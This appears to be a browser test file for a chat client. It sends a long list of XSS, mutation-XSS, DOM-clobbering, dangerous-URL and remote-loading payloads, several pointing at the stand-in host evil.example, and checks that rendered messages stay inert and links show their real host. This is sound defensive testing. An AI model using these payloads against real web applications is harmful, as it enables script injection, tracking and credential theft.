/** Nothing of a message runs, loads or leads astray, whoever has written it and however. */
import assert from 'node:assert/strict';
import { before, test } from 'node:test';

import { messages, openChat, toNewest } from './chat.mjs';
import { assertUntroubled, serverForThisFile, signIn, until } from './harness.mjs';

/** Ways that have worked somewhere; each sets `window.ran` or loads from elsewhere if it works here. */
const ATTACKS = [
  '<script>window.ran=1</script>',
  '<SCRIPT SRC="//evil.example/x.js"></SCRIPT>',
  '<scr<script>ipt>window.ran=1</scr</script>ipt>',
  '<img src=x onerror="window.ran=1">',
  '<img src=x onerror=window.ran=1 //',
  '<img/src="x"/onerror=&#119;indow.ran=1>',
  '<img src="https://evil.example/seen.png">',
  '<img srcset="https://evil.example/seen.png 2x">',
  '<svg onload="window.ran=1"></svg>',
  '<svg><script>window.ran=1</script></svg>',
  '<svg><animate onbegin="window.ran=1" attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:window.ran=1"><text x=0 y=20>press</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.ran=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
  '<math><a xlink:href="javascript:window.ran=1">press</a></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>',
  '<template><img src=x onerror=window.ran=1></template>',
  '<iframe src="javascript:window.parent.ran=1"></iframe>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="javascript:window.ran=1"></object>',
  '<embed src="data:text/html,<script>window.ran=1</script>">',
  '<video><source onerror="window.ran=1"></video>',
  '<audio src=x onerror=window.ran=1></audio>',
  '<details open ontoggle="window.ran=1">x</details>',
  '<input autofocus onfocus="window.ran=1">',
  '<select autofocus onfocus=window.ran=1></select>',
  '<marquee onstart="window.ran=1">x</marquee>',
  '<body onload="window.ran=1">',
  '<p onmouseover="window.ran=1" style="position:fixed;inset:0">cover</p>',
  '<p style="background:url(https://evil.example/seen.png)">styled</p>',
  '<style>*{background:url(https://evil.example/seen.png)}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>press</button></form>',
  '<a href="javascript:window.ran=1">press</a>',
  '<a href="JaVaScRiPt:window.ran=1">press</a>',
  '<a href="java&#10;script:window.ran=1">press</a>',
  '<a href="&#x6A;avascript:window.ran=1">press</a>',
  '<a href=" javascript:window.ran=1">press</a>',
  '<a href="data:text/html,<script>window.ran=1</script>">press</a>',
  '<a href="vbscript:window.ran=1">press</a>',
  '<a href="blob:https://evil.example/1">press</a>',
  '<a href="https://evil.example/" target="_self" rel="opener" onclick="window.ran=1">https://bank.example</a>',
  '<a href="https://bank.example@evil.example/">bank.example</a>',
  '<a id="root" name="violations" href="https://evil.example">clobber</a>',
  '<p id="root" name="getElementById">clobber</p>',
  '<custom-element onclick="window.ran=1">x</custom-element>',
  '<p is="x-y" contenteditable onblur=window.ran=1>x</p>',
  '<at id="0"><img src=x onerror=window.ran=1></at>',
  '<attachment id="x"><script>window.ran=1</script></attachment>',
  '<codeblock><code><img src=x onerror=window.ran=1></code></codeblock>',
  '<emoji alt="<img src=x onerror=window.ran=1>"></emoji>',
  '<![CDATA[<img src=x onerror=window.ran=1>]]>',
  '<!--><img src=x onerror=window.ran=1>-->',
  '<p>\u202Etxt.exe\u202C</p>',
  // What a second parsing would read differently from the first.
  '<svg><style><img src=x onerror=window.ran=1></style></svg>',
  '<svg></br><style><img title="</style><img src=x onerror=window.ran=1>"></svg>',
  '<svg><desc><noembed></desc></svg><img src=x onerror=window.ran=1>',
  '<svg><title><a title="</title><img src=x onerror=window.ran=1>"></a></title></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>',
  '<svg><set attributeName="onmouseover" to="window.ran=1"/></svg>',
  '<svg><animate xlink:href="#x" attributeName="href" values="javascript:window.ran=1"/><a id="x"><text y="20">press</text></a></svg>',
  '<svg><image href="https://evil.example/seen.svg"/></svg>',
  '<svg><feImage href="https://evil.example/seen.svg"/></svg>',
  '<svg><use href="https://evil.example/x.svg#x"/></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=window.ran=1></annotation-xml></math>',
  '<math><mi><table><mglyph><style><math><img src=x onerror=window.ran=1></style>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=window.ran=1>">',
  '<form id="x"></form><button form="x" formaction="javascript:window.ran=1">press</button>',
  '<form><input name="attributes"><input name="innerHTML"><input name="nodeName"></form><img src=x onerror=window.ran=1>',
  '<table><td><svg><p><style><img title="</style><img src=x onerror=window.ran=1>">',
  '<select><template><img src=x onerror=window.ran=1></template></select>',
  '<textarea><img src=x onerror=window.ran=1></textarea><xmp><img src=x onerror=window.ran=1></xmp>',
  '<plaintext><img src=x onerror=window.ran=1>',
  '<noframes><img src=x onerror=window.ran=1></noframes><noembed><img src=x onerror=window.ran=1></noembed>',
  '<title><img src=x onerror=window.ran=1></title>',
  '<p id="</p><img src=x onerror=window.ran=1>">quoted</p>',
  '<!-- --!><img src=x onerror=window.ran=1> -->',
  '<?xml <img src=x onerror=window.ran=1> ?>',
  '<p title=`"><img src=x onerror=window.ran=1>`>x</p>',
  `${'<div>'.repeat(600)}<img src=x onerror=window.ran=1>`,
  '<img src=x onerror\u000b=window.ran=1>',
  '<p>\u0000<scr\u0000ipt>window.ran=1</scr\u0000ipt></p>',
  '<a href="\u0000javascript:window.ran=1">press</a>',
  // Addresses that are none, in the spellings that browsers forgive.
  '<a href="\tjavascript:window.ran=1">press</a>',
  '<a href="java\tscript:window.ran=1">press</a>',
  '<a href="java\r\nscript:window.ran=1">press</a>',
  '<a href="\u0001javascript:window.ran=1">press</a>',
  '<a href="&#0000106avascript:window.ran=1">press</a>',
  '<a href="javascript&colon;window.ran=1">press</a>',
  '<a href="javascript&#58window.ran=1">press</a>',
  '<a href="&Tab;java&NewLine;script:window.ran=1">press</a>',
  '<a href="javascript://%0awindow.ran=1">press</a>',
  '<a href="jaVascript:window.ran=1//https://bank.example">press</a>',
  '<a href="feed:javascript:window.ran=1">press</a>',
  '<a href="view-source:https://evil.example">press</a>',
  '<a href="file:///etc/passwd">press</a>',
  '<a href="intent://evil.example#Intent;scheme=http;end">press</a>',
  '<a href="ms-appinstaller:?source=https://evil.example/x">press</a>',
  '<a href="DATA:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=">press</a>',
  '<a href="data:application/xhtml+xml,<x xmlns=\'http://www.w3.org/1999/xhtml\'/>">press</a>',
  '<a href="//evil.example/x">press</a>',
  '<a href="\\\\evil.example\\x">press</a>',
  '<a href="/v1.0/auth/signOut">press</a>',
  '<a ping="https://evil.example/" href="https://bank.example/">pinged</a>',
  '<a download href="https://evil.example/x.exe">bank.example</a>',
  '<area href="javascript:window.ran=1"><map name="m"><area href="https://evil.example"></map>',
  // What loads or covers without a script.
  '<p style="background-image:image-set(\'https://evil.example/seen.png\' 1x)">styled</p>',
  '<p style="content:url(//evil.example/seen.png);-webkit-mask:url(//evil.example/m.svg)">styled</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>',
  '<link rel="dns-prefetch" href="//evil.example"><link rel="preload" as="script" href="//evil.example/x.js">',
  '<picture><source srcset="https://evil.example/seen.png"><img src=x></picture>',
  '<video poster="https://evil.example/seen.png" src="https://evil.example/seen.mp4"></video>',
  '<audio autoplay src="https://evil.example/seen.mp3"></audio>',
  '<table background="https://evil.example/seen.png"><tr><td background="https://evil.example/seen.png">x</td></tr></table>',
  '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'window.ran=1\'/>">',
  '<img src="/v1.0/me/photo/$value">',
  '<dialog open>cover</dialog><p popover id="pop">cover</p>',
  '<p class="fui-Button" role="alert" aria-live="assertive" tabindex="0" accesskey="a">dressed up</p>',
  '<p slot="x" part="y" data-message="1" data-bubble data-actions>dressed up</p>',
];

/** Control characters are nothing that the server even takes. */
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/;

const server = await serverForThisFile();
let chat;
before(async () => {
  const found = await server.call('Ben', 'GET', "me/chats?$filter=chatType eq 'oneOnOne'&$expand=members");
  chat = found.value.find((one) => one.members.some((member) => member.displayName === 'Hana Sato')).id;
});

/** What is in the open chat, as far as it could harm. */
async function harms(page) {
  return messages(page).evaluate((list) => {
    const found = [];
    for (const element of list.querySelectorAll('[data-bubble] *')) {
      const tag = element.localName;
      if (/^(script|iframe|object|embed|img|video|audio|source|style|link|base|meta|form|input|select|button|template|math|noscript)$/.test(tag) || tag.includes('-')) found.push(`<${tag}>`);
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on') || name === 'style' || name === 'srcdoc' || name === 'id' || name === 'name') found.push(`${tag}[${name}=${value}]`);
      }
      if (tag === 'a') {
        const { protocol, rel, target } = element;
        if (!['https:', 'http:', 'mailto:', 'tel:'].includes(protocol)) found.push(`a[href=${element.getAttribute('href')}]`);
        if (!rel.includes('noopener') || !rel.includes('noreferrer') || target !== '_blank') found.push(`a without noopener: ${element.outerHTML}`);
      }
    }
    return found;
  });
}

/** Looks at every message that there is, with everything that was tried to be loaded. */
async function look(page, marker) {
  const strange = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(server.url) && !request.url().startsWith('data:')) strange.push(request.url());
  });
  await openChat(page, 'Hana Sato');
  await messages(page).getByRole('listitem').first().waitFor();
  await toNewest(page);
  await messages(page).getByText(marker).first().waitFor();
  const all = [];
  for (let step = 0; step < 120; step += 1) {
    all.push(...(await harms(page)));
    const isTop = await messages(page).evaluate((list) => {
      const box = list.scrollHeight > list.clientHeight ? list : list.parentElement;
      const before = box.scrollTop;
      box.scrollTop = Math.max(0, before - 300);
      return before === 0;
    });
    if (isTop && step > 3) break;
    await page.waitForTimeout(60);
  }
  assert.deepEqual(all, []);
  assert.deepEqual(strange, [], 'nothing is fetched from elsewhere');
  assert.equal(await page.evaluate(() => window.ran), undefined);
  assert.equal(await page.locator('#root').count(), 1);
}

test('attacks that are sent to the server reach the page inert', async () => {
  for (const attack of ATTACKS) {
    const sent = server.say('Hana', chat, `<p>attack</p>${attack}`, 'html');
    if (CONTROL.test(attack)) await assert.rejects(sent, /control character|NUL/);
    else await sent;
  }
  // As many again, so that the other test has a place for each.
  for (const attack of ATTACKS.filter((one) => CONTROL.test(one))) await server.say('Hana', chat, `in place of ${attack.length}`);
  await server.say('Hana', chat, '<p>the last one, harmless</p>', 'html');
  const page = await signIn(server, 'Ben');
  await look(page, 'the last one, harmless');
  await assertUntroubled(page);
  await page.context().close();
});

test('attacks from a server that cleans nothing reach the page inert', async () => {
  const page = await signIn(server, 'Ben');
  let rewritten = 0;
  await page.route(/\/messages(\?|$)/, async (route) => {
    if (route.request().method() !== 'GET') return route.continue();
    const answer = await route.fetch();
    const body = await answer.json();
    for (const [at, message] of (body.value ?? []).entries()) {
      if (!message.body || message.messageType !== 'message') continue;
      message.body = { contentType: 'html', content: `<p>raw attack</p>${ATTACKS[(at + rewritten) % ATTACKS.length]}` };
    }
    rewritten += (body.value ?? []).length;
    return route.fulfill({ response: answer, json: body });
  });
  await page.reload();
  await look(page, 'raw attack');
  await until('enough was rewritten', () => rewritten >= ATTACKS.length);
  // The browser reports what it meets while it parses for the cleaning, in a document that is never
  // shown. What would be loaded or run is another kind of report.
  const kinds = new Set((await page.evaluate(() => window.violations)).map((violation) => violation.split(' ')[0]));
  for (const parsed of ['style-src-elem', 'style-src-attr', 'script-src-attr', 'base-uri']) kinds.delete(parsed);
  assert.deepEqual([...kinds], []);
  await page.context().close();
});

test('attacks as plain text are shown as they are, in requests too', async () => {
  const asked = await server.chat(['Goran', 'Elif']);
  for (const attack of ATTACKS.slice(0, 8)) await server.say('Goran', asked, attack);
  const page = await signIn(server, 'Elif');
  await openChat(page, 'Goran');
  await page.getByRole('button', { name: 'Preview messages' }).click();
  const preview = page.getByRole('list', { name: 'What the request says' });
  await preview.getByText(ATTACKS[0], { exact: true }).waitFor();
  assert.equal(await preview.locator('a, img, script, svg').count(), 0);
  await page.getByRole('button', { name: 'Accept', exact: true }).click();
  await messages(page).getByText(ATTACKS[0], { exact: true }).waitFor();
  assert.deepEqual(await harms(page), []);
  await assertUntroubled(page);
  await page.context().close();
});

test('a link shows its real host', async () => {
  const lies = '<p><a href="https://evil.example/x">https://bank.example</a> and <a href="https://bank.example@evil.example/y">bank</a></p>';
  await server.say('Hana', chat, lies, 'html');
  const page = await signIn(server, 'Ben');
  await openChat(page, 'Hana Sato');
  const hosts = messages(page).getByText('(evil.example)');
  await until('both hosts are shown', async () => (await hosts.count()) >= 2);
  await page.context().close();
});

test('a host in letters of another alphabet is shown as what it is', async () => {
  // The second letter is Cyrillic.
  const lie = 'https://b\u0430nk.example/sign-in';
  await server.say('Hana', chat, `<p>homograph <a href="${lie}">${lie}</a></p>`, 'html');
  await server.say('Hana', chat, `and plainly ${lie}`);
  const page = await signIn(server, 'Ben');
  await openChat(page, 'Hana Sato');
  await toNewest(page);
  await messages(page).getByText('homograph').waitFor();
  const { host } = new URL(lie);
  assert.match(host, /^xn--/);
  const shown = messages(page).getByText(`(${host})`);
  await until('the real host stands beside both', async () => (await shown.count()) >= 2);
  await page.context().close();
});

test('a link opens apart: it can neither reach back nor learn from where it was opened', async () => {
  await server.say('Hana', chat, '<p>opens apart <a href="https://evil.example/x">a page</a></p>', 'html');
  const page = await signIn(server, 'Ben');
  await page.context().route('https://evil.example/**', (route) => route.fulfill({ contentType: 'text/html', body: `<p>${route.request().headers().referer ?? 'no referrer'}</p>` }));
  await openChat(page, 'Hana Sato');
  const opening = page.context().waitForEvent('page');
  await messages(page).getByRole('link', { name: 'a page' }).last().click();
  const opened = await opening;
  await opened.getByText('no referrer').waitFor();
  assert.equal(await opened.evaluate(() => window.opener), null);
  assert.equal(await opened.evaluate(() => document.referrer), '');
  await assertUntroubled(page);
  await page.context().close();
});
